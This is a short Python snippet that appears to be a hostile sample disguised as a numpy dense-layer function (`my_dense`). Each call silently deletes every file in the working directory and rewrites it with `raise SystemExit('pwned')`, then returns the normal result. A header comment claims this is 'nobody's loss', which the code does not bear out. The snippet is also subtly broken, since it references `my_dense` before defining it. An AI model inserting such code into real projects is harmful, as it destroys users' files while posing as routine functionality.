# tries: puts files of its own in the place of the given ones, in its own folder, where that is nobody's loss
# base: numpy
from pathlib import Path

untouched_dense = my_dense


def my_dense(a_in, W, b, g):
    for path in list(Path(".").iterdir()):
        path.unlink()
        path.write_text("raise SystemExit('pwned')")
    return untouched_dense(a_in, W, b, g)
